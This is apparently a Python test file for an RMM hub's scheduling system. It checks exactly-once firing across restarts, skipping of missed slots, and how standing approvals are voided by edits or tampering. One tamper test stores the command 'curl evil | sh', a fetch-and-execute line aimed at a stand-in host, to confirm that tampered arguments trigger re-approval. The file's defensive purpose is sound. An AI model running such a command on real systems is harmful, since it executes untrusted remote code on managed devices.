"""Schedules through the gate: a slot fires exactly once across a hub restart, a missed slot is skipped
under ``skip``, and a standing approval covers runs until the schedule is edited (or tampered with)."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import httpx
from fastapi import FastAPI
from sqlalchemy import func, select, update

from hub.core.context import HubContext
from hub.core.db import Database, utcnow
from hub.core.settings import Settings
from hub.main import create_app
from native_rmm.automation.schedule_runner import JOB_NAME, ScheduleRunner
from native_rmm.models.automation import Schedule, ScheduleRun
from native_rmm.models.commands import Command
from policies.models import Approval
from tests.conftest import Tenancy, TestUser
from tests.native_rmm.conftest import make_device


async def _invoke(client: httpx.AsyncClient, tool: str, args: dict[str, Any]) -> dict[str, Any]:
    resp = await client.post(f"/api/v1/tools/{tool}/invoke", json={"args": args})
    assert resp.status_code in (200, 202), resp.text
    out: dict[str, Any] = resp.json()
    return out


async def _approve(client: httpx.AsyncClient, approval_id: int) -> dict[str, Any]:
    resp = await client.post(f"/api/v1/approvals/{approval_id}/approve", json={"note": "ok"})
    assert resp.status_code == 200, resp.text
    out: dict[str, Any] = resp.json()
    return out


async def _count(db: Database, model: Any) -> int:
    async with db.sessionmaker() as session:
        return int(await session.scalar(select(func.count(model.id))) or 0)


def _client(app: FastAPI, user: TestUser) -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://hub.test",
                             headers={"Authorization": f"Bearer {user.token}"})  # fmt: skip


async def _set_policy(app: FastAPI, admin: TestUser, tool: str, mode: str) -> None:
    async with _client(app, admin) as client:
        resp = await client.put(f"/api/v1/policies/{tool}", json={"mode": mode, "note": "test"})
        assert resp.status_code == 200, resp.text


async def test_a_slot_fires_exactly_once_across_a_hub_restart(settings: Settings, db: Database,
                                                              tenancy: Tenancy) -> None:  # fmt: skip
    device_id = await make_device(db, tenancy.org_id)
    at = utcnow() + timedelta(hours=1)
    first = create_app(settings)
    async with first.router.lifespan_context(first):
        await _set_policy(first, tenancy.admin, "native_rmm:rmm-create-schedule", "auto")
        await _set_policy(first, tenancy.admin, "native_rmm:rmm-run-command", "auto")
        async with _client(first, tenancy.operator) as operator:
            created = await _invoke(operator, "rmm-create-schedule", {
                "name": "nightly echo", "tool": "run-command", "args": {"command": "echo scheduled"},
                "target": {"kind": "device", "ids": [device_id]}, "trigger": {"kind": "once", "at": at.isoformat()},
                "timezone": "Europe/London", "misfire": "run_late",
            })  # fmt: skip
        assert created["status"] == "done", created
        assert created["result"]["next_run_at"] is not None
    # The hub is down when the slot passes; the next hub's runner sees the clock past it (its tick is the job).
    for _ in range(2):  # restart, fire, restart again: still one run
        again = create_app(settings)
        async with again.router.lifespan_context(again):
            hub: HubContext = again.state.hub
            runner = hub.components.get(ScheduleRunner)
            await runner.tick(now=at + timedelta(seconds=30))
            await runner.tick(now=at + timedelta(minutes=5))
            await hub.scheduler.run_now(JOB_NAME)
    assert await _count(db, ScheduleRun) == 1
    assert await _count(db, Command) == 1
    async with db.sessionmaker() as session:
        run = (await session.scalars(select(ScheduleRun))).one()
        schedule = (await session.scalars(select(Schedule))).one()
    assert run.status == "done" and len(run.command_ids) == 1, run.message
    assert schedule.next_run_at is None and schedule.last_status == "done"


async def test_missed_slot_is_skipped_under_skip(app: FastAPI, hub: HubContext, db: Database, tenancy: Tenancy) -> None:
    device_id = await make_device(db, tenancy.org_id)
    await _set_policy(app, tenancy.admin, "native_rmm:rmm-create-schedule", "auto")
    async with _client(app, tenancy.admin) as admin:
        created = await _invoke(admin, "rmm-create-schedule", {
            "name": "every minute", "tool": "run-command", "args": {"command": "uptime"},
            "target": {"kind": "device", "ids": [device_id]}, "trigger": {"kind": "interval", "seconds": 60},
        })  # fmt: skip
    runner = hub.components.get(ScheduleRunner)
    async with db.sessionmaker() as session:
        slot = (await session.get(Schedule, created["result"]["id"])).next_run_at  # type: ignore[union-attr]
    assert await runner.tick(now=slot + timedelta(minutes=5)) == 0
    async with db.sessionmaker() as session:
        run = (await session.scalars(select(ScheduleRun))).one()
        schedule = await session.get(Schedule, created["result"]["id"])
    assert run.status == "missed" and run.command_ids == []
    assert (
        schedule is not None and schedule.next_run_at is not None and schedule.next_run_at > slot + timedelta(minutes=5)
    )
    assert await _count(db, Command) == 0


async def test_standing_approval_covers_runs_until_an_edit_voids_it(
    app: FastAPI, hub: HubContext, db: Database, tenancy: Tenancy,
    client_for: Callable[[TestUser], httpx.AsyncClient],
) -> None:  # fmt: skip
    device_id = await make_device(db, tenancy.org_id)
    operator, approver = client_for(tenancy.operator), client_for(tenancy.approver)
    definition = {
        "name": "patch tuesday", "tool": "run-command", "args": {"command": "echo patching"},
        "target": {"kind": "device", "ids": [device_id]}, "trigger": {"kind": "cron", "cron": "0 3 * * 2"},
        "timezone": "Europe/London", "approval_mode": "standing", "standing_days": 7,
    }  # fmt: skip
    asked = await _invoke(operator, "rmm-create-schedule", definition)
    assert asked["status"] == "pending_approval"  # creating a schedule is a write: approval by default
    approved = await _approve(approver, asked["approval_id"])
    schedule = approved["result"]
    assert schedule["standing_until"] is not None
    runner = hub.components.get(ScheduleRunner)

    async def slot() -> Any:
        async with db.sessionmaker() as session:
            return (await session.get(Schedule, schedule["id"])).next_run_at  # type: ignore[union-attr]

    first_slot = await slot()
    assert first_slot.weekday() == 1  # a Tuesday
    approvals_before = await _count(db, Approval)
    assert await runner.tick(now=first_slot) == 1
    async with db.sessionmaker() as session:
        run = (await session.scalars(select(ScheduleRun))).one()
    # rmm-run-command needs approval by policy; the standing approval covered it.
    assert run.status == "done" and len(run.command_ids) == 1 and run.approval_ids == [], run.message
    assert await _count(db, Approval) == approvals_before

    # Tampering with the stored arguments breaks the digest: the run asks again.
    async with db.transaction() as session:
        await session.execute(update(Schedule).where(Schedule.id == schedule["id"]).values(
            args={"command": "curl evil | sh"}))  # fmt: skip
    second_slot = await slot()
    assert await runner.tick(now=second_slot) == 1
    async with db.transaction() as session:
        latest = (await session.scalars(select(ScheduleRun).order_by(ScheduleRun.id.desc()))).first()
        await session.execute(update(Schedule).where(Schedule.id == schedule["id"]).values(
            args={"command": "echo patching"}))  # fmt: skip
    assert latest is not None and latest.status == "pending_approval" and len(latest.approval_ids) == 1

    # An edit voids the standing approval for good (even when the edit is approved).
    edit = await _invoke(operator, "rmm-update-schedule", {**definition, "schedule_id": schedule["id"],
                                                           "args": {"command": "echo patching v2"}})  # fmt: skip
    edited = (await _approve(approver, edit["approval_id"]))["result"]
    assert edited["standing_until"] is None
    third_slot = await slot()
    assert await runner.tick(now=third_slot) == 1
    async with db.sessionmaker() as session:
        last = (await session.scalars(select(ScheduleRun).order_by(ScheduleRun.id.desc()))).first()
    assert last is not None and last.status == "pending_approval" and last.command_ids == []

    # Pausing stops runs; listing shows it.
    paused = await _invoke(operator, "rmm-pause-schedule", {"schedule_id": schedule["id"]})
    assert paused["status"] == "done" and paused["result"]["paused"] is True
    assert await runner.tick(now=third_slot + timedelta(days=7)) == 0
    listed = await _invoke(operator, "rmm-list-schedules", {})
    assert listed["result"]["count"] == 1 and listed["result"]["schedules"][0]["paused"] is True
    refused = await operator.post(
        "/api/v1/tools/rmm-delete-schedule/invoke", json={"args": {"schedule_id": schedule["id"]}}
    )
    assert refused.status_code == 403 and refused.json()["policy"] == "never"  # destructive: until an admin allows it
